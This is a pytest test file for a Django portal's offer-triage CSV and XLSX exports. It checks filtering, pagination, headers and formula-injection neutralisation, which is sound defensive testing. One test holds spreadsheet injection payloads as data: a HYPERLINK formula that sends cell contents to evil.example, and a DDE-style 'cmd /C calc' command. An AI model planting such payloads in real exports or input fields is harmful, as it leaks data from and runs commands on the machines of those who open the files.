"""Exports of the triage queue: exactly the filtered rows (every page), in CSV and XLSX, with
formulas neutralised."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from offers.exports import HEADERS, neutralise
from offers.models import Offer, OfferStatus
from offers.views.triage import QUEUE_PAGE_SIZE, TriageQueueView
from portal.core.models import Category
from tests.clusters.factories import make_cluster
from tests.offers.factories import make_offer

S = OfferStatus
pytestmark = pytest.mark.django_db

EXPECTED_HEADERS = [
    "id", "title", "company_name", "company_country", "registration_number", "company_size",
    "cluster", "category", "quantity", "unit", "lead_time_days", "delivery_countries",
    "certifications", "status", "submitted_at", "assignee", "contact_name", "contact_email",
    "contact_phone",
]  # fmt: skip


@pytest.fixture
def staff_client(client, commission_staff):
    client.force_login(commission_staff)
    return client


def read_csv(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # the BOM: Excel then reads UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def read_xlsx(response):
    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]], rows[0]


@pytest.fixture
def queue(company_user, cluster_manager, commission_staff):
    """Offers in several statuses and countries: the filters pick some of them."""
    cluster = make_cluster(by=cluster_manager, name="Health Valley")
    return {
        "be_submitted": make_offer(
            by=company_user, status=S.SUBMITTED, staff=commission_staff,
            registration_number="BE0123456789", title="Masks from Ghent",
        ),
        "it_review": make_offer(
            by=cluster_manager, status=S.UNDER_REVIEW, staff=commission_staff, cluster=cluster,
            company_name="Guanti SpA", company_country="IT",
            category=Category.objects.get(slug="ppe-gloves"), delivery_countries=["IT", "FR"],
        ),
        "be_accepted": make_offer(by=company_user, status=S.ACCEPTED, staff=commission_staff),
        "draft": make_offer(by=company_user, status=S.DRAFT),
    }  # fmt: skip


def test_headers_are_the_agreed_columns():
    assert HEADERS == EXPECTED_HEADERS


def test_csv_export_holds_exactly_the_default_queue(staff_client, queue):
    response = staff_client.get(reverse("offers:triage_export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().strftime("%Y%m%d")
    assert response["Content-Disposition"] == f'attachment; filename="offers-{today}.csv"'
    assert "no-store" in response["Cache-Control"]
    rows = read_csv(response)
    assert list(rows[0].keys()) == EXPECTED_HEADERS
    # Submitted, under review, needs information: the same default as the page.
    assert {int(r["id"]) for r in rows} == {queue["be_submitted"].pk, queue["it_review"].pk}


def test_csv_export_follows_the_filters(staff_client, queue, commission_staff):
    response = staff_client.get(
        reverse("offers:triage_export_csv"),
        {"status": ["submitted", "under_review", "accepted"], "country": "BE"},
    )
    rows = read_csv(response)
    assert sorted(int(r["id"]) for r in rows) == sorted(
        [queue["be_submitted"].pk, queue["be_accepted"].pk]
    )
    page = staff_client.get(
        reverse("offers:triage"),
        {"status": ["submitted", "under_review", "accepted"], "country": "BE"},
    )
    # The export lists the page's offers in the page's order.
    assert [int(r["id"]) for r in rows] == [o.pk for o in page.context["offers"]]


def test_csv_values(staff_client, queue, commission_staff):
    offer = queue["it_review"]
    Offer.objects.filter(pk=offer.pk).update(assignee=commission_staff)
    response = staff_client.get(reverse("offers:triage_export_csv"), {"cluster": offer.cluster_id})
    [row] = read_csv(response)
    offer.refresh_from_db()
    assert row == {
        "id": str(offer.pk),
        "title": offer.title,
        "company_name": "Guanti SpA",
        "company_country": "IT",
        "registration_number": "",
        "company_size": "sme",
        "cluster": "Health Valley",
        "category": "Personal protective equipment › Gloves",
        "quantity": "10000",
        "unit": "pieces",
        "lead_time_days": "7",
        "delivery_countries": "FR, IT",
        "certifications": "CE; EN 149",
        "status": "under_review",
        "submitted_at": timezone.localtime(offer.submitted_at)
        .replace(tzinfo=None, microsecond=0)
        .isoformat(sep=" "),
        "assignee": commission_staff.email,
        "contact_name": offer.contact_name,
        "contact_email": offer.contact_email,
        "contact_phone": "'+32 2 000 00 00",  # a leading + would start a formula
    }


def test_xlsx_export_holds_exactly_the_filtered_rows(staff_client, queue):
    response = staff_client.get(
        reverse("offers:triage_export_xlsx"), {"status": ["under_review", "accepted"]}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    today = timezone.localdate().strftime("%Y%m%d")
    assert response["Content-Disposition"] == f'attachment; filename="offers-{today}.xlsx"'
    rows, header = read_xlsx(response)
    assert list(header) == EXPECTED_HEADERS
    assert {r["id"] for r in rows} == {queue["it_review"].pk, queue["be_accepted"].pk}
    accepted = next(r for r in rows if r["id"] == queue["be_accepted"].pk)
    assert accepted["quantity"] == 10000
    assert accepted["status"] == "accepted"
    assert accepted["submitted_at"] == timezone.localtime(
        queue["be_accepted"].submitted_at
    ).replace(tzinfo=None, microsecond=0)


def test_exports_hold_every_page_not_just_one(staff_client, company_user, commission_staff):
    offers = [
        make_offer(by=company_user, status=S.SUBMITTED, staff=commission_staff) for _ in range(5)
    ]
    TriageQueueView.paginate_by = 2
    try:
        page = staff_client.get(reverse("offers:triage"))
        assert len(page.context["offers"]) == 2
        csv_rows = read_csv(staff_client.get(reverse("offers:triage_export_csv")))
        xlsx_rows, _header = read_xlsx(staff_client.get(reverse("offers:triage_export_xlsx")))
    finally:
        TriageQueueView.paginate_by = QUEUE_PAGE_SIZE
    assert {int(r["id"]) for r in csv_rows} == {o.pk for o in offers}
    assert {r["id"] for r in xlsx_rows} == {o.pk for o in offers}


def test_exports_are_empty_but_valid_when_nothing_matches(staff_client, queue):
    params = {"country": "PT"}
    assert read_csv(staff_client.get(reverse("offers:triage_export_csv"), params)) == []
    rows, header = read_xlsx(staff_client.get(reverse("offers:triage_export_xlsx"), params))
    assert rows == []
    assert list(header) == EXPECTED_HEADERS


def test_formula_injection_is_neutralised(staff_client, company_user, commission_staff):
    offer = make_offer(
        by=company_user,
        status=S.SUBMITTED,
        staff=commission_staff,
        title='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        company_name="@SUM(A1:A9)",
        contact_name="-2+3",
        contact_phone="+1 555 0100",
        registration_number="=1+1",
        unit="\x01=cmd|' /C calc'!A0",
    )
    csv_row = read_csv(staff_client.get(reverse("offers:triage_export_csv")))[0]
    rows, _header = read_xlsx(staff_client.get(reverse("offers:triage_export_xlsx")))
    xlsx_row = rows[0]
    for row in (csv_row, xlsx_row):
        assert row["title"] == "'" + offer.title
        assert row["company_name"] == "'@SUM(A1:A9)"
        assert row["contact_name"] == "'-2+3"
        assert row["contact_phone"] == "'+1 555 0100"
        assert row["registration_number"] == "'=1+1"
        assert row["unit"] == "'=cmd|' /C calc'!A0"  # the control character hid nothing
        assert row["contact_email"] == offer.contact_email  # ordinary text is left alone


def test_xlsx_cells_are_text_not_formulas(staff_client, company_user, commission_staff):
    make_offer(by=company_user, status=S.SUBMITTED, staff=commission_staff, title="=1+1")
    body = b"".join(staff_client.get(reverse("offers:triage_export_xlsx")).streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    title = sheet.cell(row=2, column=EXPECTED_HEADERS.index("title") + 1)
    assert title.data_type == "s"
    assert title.value == "'=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=A1", "'=A1"),
        ("+A1", "'+A1"),
        ("-A1", "'-A1"),
        ("@A1", "'@A1"),
        ("\tA1", "'\tA1"),
        ("\rA1", "'\rA1"),
        ("A=1", "A=1"),
        ("", ""),
        (None, None),
        (5, 5),
        (Decimal("-1"), Decimal("-1")),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_export_iterates_in_chunks(staff_client, company_user, commission_staff, monkeypatch):
    """Rows are read with .iterator(), never all at once (50,000 offers fit in memory)."""
    from django.db.models.query import QuerySet

    calls = []
    original = QuerySet.iterator

    def spy(self, *args, **kwargs):
        calls.append(kwargs.get("chunk_size"))
        return original(self, *args, **kwargs)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    make_offer(by=company_user, status=S.SUBMITTED, staff=commission_staff)
    read_csv(staff_client.get(reverse("offers:triage_export_csv")))
    read_xlsx(staff_client.get(reverse("offers:triage_export_xlsx")))
    assert calls == [2000, 2000]
